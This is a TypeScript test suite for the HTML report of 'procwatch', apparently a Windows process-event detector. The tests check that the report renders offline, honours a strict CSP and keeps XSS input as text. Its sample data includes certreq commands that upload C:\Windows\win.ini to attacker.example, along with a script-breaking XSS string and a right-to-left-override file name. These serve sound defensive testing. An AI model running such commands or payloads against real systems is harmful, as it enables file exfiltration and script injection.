/**
 * `procwatch scan --format html`: one self-contained file. Opened from file:// in Chromium with the network
 * off, it shows the overview, the alert list and an alert's intent and tree, makes no request and logs no
 * error; the XSS corpus stays text; the data is JSON read with textContent and the CSP allows only the
 * inlined script and style by hash.
 */
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { REPO_ROOT } from '../helpers/paths.js';
import { runCli } from '../helpers/cli.js';
import { needs, TOOLS } from '../helpers/requirements.js';
import { ndjson } from '../server/support/events.js';
import { XSS, xssEvents } from '../server/support/xss.js';
import { renderHtmlReport, scriptSafeJson } from '../../src/output/html.js';
import { createPipeline } from '../../src/pipeline.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';

// Browser globals used inside page.evaluate (the tests' tsconfig has no DOM lib).
interface El {
  tagName: string;
  getAttributeNames(): string[];
  getAttribute(n: string): string | null;
  textContent: string | null;
}
declare const document: { querySelectorAll(s: string): Iterable<El> & { length: number }; querySelector(s: string): El | null; scrollingElement: { scrollWidth: number } | null };
declare const window: { __pwned?: number; innerWidth: number };

const ARTIFACTS = join(REPO_ROOT, 'test-artifacts', 'report');
let dir = '';
let browser: Browser | undefined;

before(async () => {
  if (needs('chromium').skip) return;
  execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-console.mjs')], { stdio: 'inherit' });
  mkdirSync(ARTIFACTS, { recursive: true });
  dir = mkdtempSync(join(tmpdir(), 'pw-report-'));
  const { chromium } = await import('playwright-core');
  browser = await chromium.launch({ executablePath: TOOLS.chromium, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
});

after(async () => {
  await browser?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

interface Opened {
  page: Page;
  requests: string[];
  errors: string[];
  dialogs: string[];
  close: () => Promise<void>;
}

/** Opens a report from file:// in an offline context that aborts and records every request but the file. */
async function openReport(file: string, viewport = { width: 1440, height: 900 }): Promise<Opened> {
  const ctx = await browser!.newContext({ viewport, offline: true });
  const url = pathToFileURL(file).href;
  const requests: string[] = [];
  const errors: string[] = [];
  const dialogs: string[] = [];
  await ctx.route('**/*', (route) => {
    if (route.request().url() === url) return route.continue();
    requests.push(route.request().url());
    return route.abort();
  });
  const page = await ctx.newPage();
  page.on('console', (m) => {
    if (m.type() === 'error' || m.type() === 'warning') errors.push(m.text());
  });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(url);
  return { page, requests, errors, dialogs, close: () => ctx.close() };
}

describe('scan --format html', needs('chromium'), () => {
  test('samples/ to report.html: overview, alert list, intent and tree render offline with no request and no error', async () => {
    const out = join(dir, 'report.html');
    const r = await runCli(['scan', join(REPO_ROOT, 'samples'), '--format', 'html', '-o', out]);
    assert.equal(r.code, 0, r.stderr);
    const html = readFileSync(out, 'utf8');
    // Self-contained: no external script, style, image or link.
    assert.doesNotMatch(html, /<script[^>]+src=|<link[^>]+href=|<img[^>]+src=|https?:\/\/[^"' ]*\.js/i);
    // The CSP allows exactly the inlined script and style by their hashes.
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
    const script = /<script>([\s\S]*)<\/script>\n<\/body>/.exec(html)?.[1] ?? '';
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    const sha = (s: string): string => createHash('sha256').update(s, 'utf8').digest('base64');
    assert.ok(script.length > 1000 && style.length > 100);
    assert.ok(csp.includes(`script-src 'sha256-${sha(script)}'`), csp);
    assert.ok(csp.includes(`style-src 'sha256-${sha(style)}'`), csp);
    assert.match(csp, /default-src 'none'/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|connect-src/);

    for (const [vp, tag] of [[{ width: 1440, height: 900 }, 'wide'], [{ width: 390, height: 844 }, 'narrow']] as const) {
      const o = await openReport(out, vp);
      try {
        await o.page.waitForSelector('#over-time canvas');
        assert.match((await o.page.textContent('#top-rules')) ?? '', /Suspicious Certreq Command to Download or Upload/);
        await o.page.screenshot({ path: join(ARTIFACTS, `overview-${tag}.png`) });
        await o.page.click('a.tab:has-text("Alerts")');
        await o.page.waitForSelector('table.alerts tbody tr');
        const rows = await o.page.$$eval('table.alerts tbody tr', (x) => x.length);
        assert.equal(rows, 10, 'the ten alerts of the samples');
        await o.page.screenshot({ path: join(ARTIFACTS, `alerts-${tag}.png`) });
        await o.page.click('table.alerts tbody tr:has-text("attacker.example/ c:") td.c-rule a');
        await o.page.waitForSelector('#intent');
        const intent = (await o.page.textContent('#intent')) ?? '';
        assert.match(intent, /https:\/\/attacker\.example\//);
        assert.match(intent, /win\.ini dummy body/);
        await o.page.waitForSelector('#tree svg .tree-node');
        const ancestors = await o.page.$$eval('#tree svg .tree-ancestor text.tree-image', (t) => t.map((x) => x.textContent));
        assert.ok(ancestors.includes('cmd.exe'), ancestors.join(','));
        const { sw, iw } = await o.page.evaluate(() => ({ sw: document.scrollingElement!.scrollWidth, iw: window.innerWidth }));
        assert.ok(sw <= iw, `${tag}: scrolls sideways (${sw} > ${iw})`);
        await o.page.screenshot({ path: join(ARTIFACTS, `alert-${tag}.png`) });
        // A chart bar or a top-list row filters the list within the page.
        await o.page.goBack();
        await o.page.goBack();
        await o.page.click('#top-hosts a:has-text("WS01.corp.example")');
        await o.page.waitForSelector('table.alerts tbody tr');
        const hosts = await o.page.$$eval('table.alerts td.c-host', (c) => c.map((x) => x.textContent));
        assert.ok(hosts.length > 0 && hosts.every((h) => h === 'WS01.corp.example'), hosts.join(','));
        assert.deepEqual(o.requests, [], 'the report makes no request');
        assert.deepEqual(o.errors, [], 'no console error (a CSP violation would be one)');
      } finally {
        await o.close();
      }
    }
  });

  test('the XSS corpus in event fields stays text in the report', async () => {
    const input = join(dir, 'xss.jsonl');
    writeFileSync(input, ndjson(xssEvents()));
    const out = join(dir, 'xss.html');
    const r = await runCli(['scan', input, '--format', 'html', '-o', out]);
    assert.equal(r.code, 0, r.stderr);
    const html = readFileSync(out, 'utf8');
    const data = /<script type="application\/json" id="procwatch-report">([\s\S]*?)<\/script>/.exec(html)?.[1] ?? '';
    assert.ok(!data.includes('<'), 'no < inside the data element (it cannot close it or open a comment)');
    const parsed = JSON.parse(data) as { alerts: { id: string; host: string }[] };
    assert.ok(parsed.alerts.length >= 2, `${parsed.alerts.length} alerts`);
    const hostile = parsed.alerts.find((a) => a.host.startsWith('XSS01'))!;
    const o = await openReport(out);
    try {
      for (const hash of ['#/overview', '#/alerts', `#/alerts/${hostile.id}`, `#/alerts/${parsed.alerts.find((a) => a !== hostile)!.id}`]) {
        await o.page.evaluate((h) => ((globalThis as unknown as { location: { hash: string } }).location.hash = h), hash);
        await o.page.waitForSelector('.overview, table, .detail');
        await o.page.waitForTimeout(100);
        const bad = await o.page.evaluate(() => {
          const found: string[] = [];
          if (window.__pwned) found.push('payload ran');
          if (document.querySelector('img[src="x"], svg[onload], img[onerror]')) found.push('element injected');
          if (document.querySelectorAll('script').length !== 2) found.push('script element count changed');
          for (const el of document.querySelectorAll('*')) for (const a of el.getAttributeNames()) if (a.startsWith('on')) found.push(`${el.tagName} has ${a}`);
          for (const a of document.querySelectorAll('a')) if (/^\s*javascript:/i.test(a.getAttribute('href') ?? '')) found.push('javascript: link');
          return found;
        });
        assert.deepEqual(bad, [], `${hash}: ${bad.join('; ')}`);
      }
      const head = (await o.page.textContent('.detail-head')) ?? '';
      assert.ok(head.includes(XSS.img) || (await o.page.textContent('body'))!.includes(XSS.img), 'the payload is shown as text');
      await o.page.evaluate((h) => ((globalThis as unknown as { location: { hash: string } }).location.hash = h), `#/alerts/${hostile.id}`);
      await o.page.waitForSelector('#reason');
      assert.ok(((await o.page.textContent('.detail-head')) ?? '').includes(XSS.img));
      assert.ok(((await o.page.textContent('.detail-head')) ?? '').includes('invoice⟨U+202E⟩txt.exe'));
      await o.page.screenshot({ path: join(ARTIFACTS, 'xss.png') });
      assert.deepEqual(o.dialogs, []);
      assert.deepEqual(o.requests, []);
      assert.deepEqual(o.errors, []);
    } finally {
      await o.close();
    }
  });
});

test('scriptSafeJson: nothing in the data can end the script element or open a comment', () => {
  const hostile = { a: '</script><script>alert(1)</script>', b: '<!--', c: '\u2028\u2029', d: '&amp;' };
  const s = scriptSafeJson(hostile);
  assert.ok(!/[<>&\u2028\u2029]/.test(s), s);
  assert.deepEqual(JSON.parse(s), hostile);
});

test('at most maxAlerts alerts are embedded; the overview still counts all of them', async () => {
  execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-console.mjs')], { stdio: 'inherit' });
  const pipeline = await createPipeline({ rules: { paths: [], builtin: true } });
  const alerts: Alert[] = [];
  for (let i = 1; i <= 7; i++) {
    const ev: WinEvent = {
      system: { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', eventId: 1, timeCreated: `2026-05-01T10:0${i}:00Z`, computer: `WS${i}`, recordId: i },
      data: { ProcessId: String(1000 + i), Image: 'C:\\Windows\\System32\\certreq.exe', CommandLine: `certreq -Post -config https://x${i}.example/ C:\\Windows\\win.ini out.txt`, User: 'CORP\\alice' },
      origin: { file: 'test', line: i },
    };
    alerts.push(...pipeline.handle(ev));
  }
  assert.ok(alerts.length >= 7);
  const html = await renderHtmlReport(alerts, { maxAlerts: 3, generatedAt: new Date('2026-05-02T00:00:00Z') });
  const data = JSON.parse(/<script type="application\/json" id="procwatch-report">([\s\S]*?)<\/script>/.exec(html)![1]!) as { total: number; shown: number; alerts: unknown[]; stats: { total: number; top_hosts: unknown[] }; generated_at: string };
  assert.equal(data.alerts.length, 3);
  assert.equal(data.shown, 3);
  assert.equal(data.total, alerts.length);
  assert.equal(data.stats.total, alerts.length, 'the overview counts every alert');
  assert.equal(data.stats.top_hosts.length, 7);
  assert.equal(data.generated_at, '2026-05-02T00:00:00.000Z');
});
